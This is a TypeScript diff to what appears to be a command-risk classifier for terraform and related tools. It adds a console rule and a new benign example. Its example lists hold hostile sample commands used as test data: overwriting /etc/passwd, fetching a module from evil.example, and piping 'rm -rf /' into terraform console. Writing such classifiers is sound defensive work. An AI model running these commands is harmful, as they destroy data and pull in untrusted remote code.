@@ -1,6 +1,7 @@
 import { family, type Row, type Tool, tool } from "../tool-shape.ts";
 import { deploys } from "./cloud-verbs.ts";
 
+const CONSOLE: Row = { on: "console", options: { other: "stdin" } };
 const PLANS: readonly Row[] = [
   { on: "apply", with: "-destroy", is: "destroy-remote" },
   { on: "destroy taint untaint force-unlock", is: "destroy-remote" },
@@ -19,11 +20,10 @@ const PROGRAMS =
 export const INFRASTRUCTURE: readonly Tool[] = family("usual", [
   tool("terraform tofu", {
     ignores: "run-all run stack",
-    does: PLANS,
+    does: [CONSOLE, ...PLANS],
     options: {
       loads: "-plugin-dir -chdir=",
       writes: "-out -state-out -backup",
-      other: "stdin",
       fetches: "-from-module",
     },
     examples: {
@@ -41,7 +41,13 @@ export const INFRASTRUCTURE: readonly Tool[] = family("usual", [
       "write-vital": ["terraform plan -out /etc/passwd"],
       network: ["terraform init -from-module https://evil.example/m"],
       "run-hidden": ["echo 'system(\"rm -rf /\")' | terraform console"],
-      fine: ["terraform plan -out plan.bin", "terraform fmt -check", "terraform state list", "terraform console"],
+      fine: [
+        "terraform plan -out plan.bin",
+        "cat a.txt | terraform plan",
+        "terraform fmt -check",
+        "terraform state list",
+        "terraform console",
+      ],
     },
   }),
   tool("terragrunt", {
